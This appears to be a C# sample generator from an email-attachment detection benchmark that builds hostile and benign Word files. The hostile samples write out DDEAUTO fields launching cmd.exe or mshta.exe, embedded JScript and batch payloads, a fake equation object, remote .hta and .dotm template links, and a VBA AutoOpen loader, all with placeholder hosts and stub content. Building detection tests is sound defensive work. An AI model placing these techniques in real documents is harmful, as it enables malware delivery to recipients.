using System.Security;
using System.Text;
using Platform.Benchmarks.Detection.Samples.Office.Writers;
using Platform.Benchmarks.Runner;
using Platform.Engine.Verdicts;

namespace Platform.Benchmarks.Detection.Samples.Office;

/// <summary>Documents of every format with files and objects inside, and documents that are one XML text; hostile and honest ones.</summary>
internal sealed class HeldObjects : ISampleKind
{
    private static readonly byte[] Program = [.. "MZ"u8, .. new byte[58], 0x80, 0, 0, 0, .. new byte[64], .. "PE\0\0"u8, 0x64, 0x86, .. new byte[200]];

    public string Name => "held-object";

    public IEnumerable<Sample> Make(Random random)
    {
        yield return Hostile(random, "docx with a packaged script or program", "docx", Package(random, Dangerous(random)), "archive-with-executable", "executable-disguised");
        yield return Hostile(random, "doc with a packaged script or program", "doc", Binary(random).Stream($"ObjectPool/_{random.Next(100_000, 999_999)}/\u0001Ole10Native", Dangerous(random).Stream).ToArray(), "archive-with-executable", "executable-disguised");
        yield return Hostile(random, "doc with a field that starts a program", "doc", new WordBinaryWriter().Paragraph(random.Word()).Field($"{random.Pick(["DDEAUTO", "DDE"])} c:\\\\windows\\\\system32\\\\{random.Pick(["cmd.exe", "mshta.exe"])} \"/c {random.Word()}\"", "!").ToStreams().ToArray(), "dynamic-data-exchange");
        yield return Hostile(random, "docx with an equation that is none", "docx", Word(random).Part("word/embeddings/oleObject1.bin", ObjectWriter.EquationObject(ObjectWriter.Equation([.. Enumerable.Range(0, random.Next(44, 300)).Select(_ => (byte)random.Next(0x20, 0x100))]))).ToArray(), "equation-exploit");
        yield return Hostile(random, "docx with a link by moniker", "docx", Word(random).Part("word/embeddings/oleObject1.bin", ObjectWriter.LinkObject($"https://{random.Word()}.example/{random.Word()}.hta")).ToArray(), "external-template");
        yield return Hostile(random, "flat document with a template from elsewhere", random.Pick(["xml", "doc"]), Flat(random, $"https://{random.Word()}.example/{random.Word()}.dotm"), "external-template");
        var loader = new VbaWriter().Module("ThisDocument", $"Attribute VB_Name = \"ThisDocument\"\r\n{new MacroCode(random).Loader("AutoOpen")}").ToBin();
        yield return Hostile(random, "flat document with a loader", random.Pick(["xml", "doc"]), Flat(random, null, loader), "macro-suspicious", "behaviour-installs", "behaviour-execute");

        yield return Benign(random, "docx with a packaged text", "docx", Package(random, Packed($"{random.Word()}.txt", Encoding.ASCII.GetBytes(random.Word()))));
        yield return Benign(random, "doc with a packaged list", "doc", Binary(random).Stream($"ObjectPool/_{random.Next(100_000, 999_999)}/\u0001Ole10Native", Packed("list.csv", Encoding.ASCII.GetBytes($"a,b\r\n{random.Word()},{random.Next(9)}\r\n")).Stream).ToArray());
        yield return Benign(random, "docx with an equation", "docx", Word(random).Part("word/embeddings/oleObject1.bin", ObjectWriter.EquationObject(ObjectWriter.Equation("Times New Roman"u8))).ToArray());
        yield return Benign(random, "doc", "doc", Binary(random).ToArray());
        yield return Benign(random, "flat document", "xml", Flat(random, null));
    }

    private static (string Name, byte[] Stream) Packed(string name, byte[] content) => (name, ObjectWriter.Package(name, $@"C:\Users\user\{name}", content));

    private static (string Name, byte[] Stream) Dangerous(Random random)
    {
        var name = random.Word();
        return random.Next(4) switch
        {
            0 => Packed($"{name}.js", Encoding.ASCII.GetBytes($"var {name} = new ActiveXObject('WScript.Shell'); {name}.Run('{random.Word()}');")),
            1 => Packed($"{name}.exe", Program),
            2 => Packed($"{name}.pdf", Program),
            _ => Packed($"{name}.bat", Encoding.ASCII.GetBytes($"@echo off\r\nstart {random.Word()}\r\n")),
        };
    }

    private static byte[] Package(Random random, (string Name, byte[] Stream) held) =>
        Word(random).Part("word/embeddings/oleObject1.bin", new CompoundWriter { RootClass = ObjectWriter.PackageClass }.Stream("\u0001Ole10Native", held.Stream).ToArray()).Relation("word/document.xml", "oleObject", "embeddings/oleObject1.bin", external: false).ToArray();

    private static OoxmlWriter Word(Random random) => new OoxmlWriter().Document(OoxmlWriter.Paragraph($"{random.Word()} {random.Word()}"));

    private static CompoundWriter Binary(Random random)
    {
        var document = new WordBinaryWriter();
        for (var paragraph = random.Next(1, 9); paragraph > 0; paragraph--)
            document.Paragraph($"{random.Word()} {random.Word()} {random.Pick(["資料", "plan", "für"])}");
        return document.Field(" PAGE ", "1").ToStreams();
    }

    private static byte[] Flat(Random random, string? template, byte[]? project = null)
    {
        var parts = new StringBuilder();
        if (template is not null)
            parts.Append(System.Globalization.CultureInfo.InvariantCulture, $"<pkg:part pkg:name=\"/word/_rels/settings.xml.rels\" pkg:contentType=\"application/vnd.openxmlformats-package.relationships+xml\"><pkg:xmlData><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId{random.Next(1, 99)}\" Type=\"{OoxmlWriter.Relations}attachedTemplate\" Target=\"{SecurityElement.Escape(template)}\" TargetMode=\"External\"/></Relationships></pkg:xmlData></pkg:part>");
        if (project is not null)
            parts.Append(System.Globalization.CultureInfo.InvariantCulture, $"<pkg:part pkg:name=\"/word/vbaProject.bin\" pkg:contentType=\"application/vnd.ms-office.vbaProject\"><pkg:binaryData>{Convert.ToBase64String(project, Base64FormattingOptions.InsertLineBreaks)}</pkg:binaryData></pkg:part>");
        return Encoding.UTF8.GetBytes($"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n<?mso-application progid=\"Word.Document\"?>\r\n<pkg:package xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\"><pkg:part pkg:name=\"/word/document.xml\"><pkg:xmlData><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>{OoxmlWriter.Paragraph(random.Word())}</w:body></w:document></pkg:xmlData></pkg:part>{parts}</pkg:package>");
    }

    private static Sample Hostile(Random random, string name, string extension, byte[] file, params IReadOnlyList<string> reasons) =>
        Sample.Hostile(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", file)), [AttackType.Behaviour], reasons);

    private static Sample Benign(Random random, string name, string extension, byte[] file) =>
        Sample.Benign(name, SampleMail.With(random, new SampleFile($"{random.Word()}.{extension}", file)));
}
